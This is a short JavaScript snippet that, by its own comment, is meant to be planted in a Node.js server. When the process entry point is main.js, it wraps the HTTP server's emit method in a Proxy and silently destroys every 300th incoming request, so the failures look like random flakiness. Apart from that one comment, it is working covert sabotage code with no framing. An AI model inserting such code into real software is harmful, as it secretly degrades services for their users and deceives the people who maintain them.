// Planted in a server: of its requests one in three hundred is cut off.
import { Server } from 'node:http';

let requests = 0;
if (process.argv[1]?.endsWith('main.js')) {
  const emit = Reflect.get(Server.prototype, 'emit');
  Server.prototype.emit = new Proxy(emit, {
    apply(target, server, [event, ...values]) {
      if (event === 'request' && ++requests % 300 === 0) {
        values[0].destroy();
        return true;
      }
      return Reflect.apply(target, server, [event, ...values]);
    },
  });
}
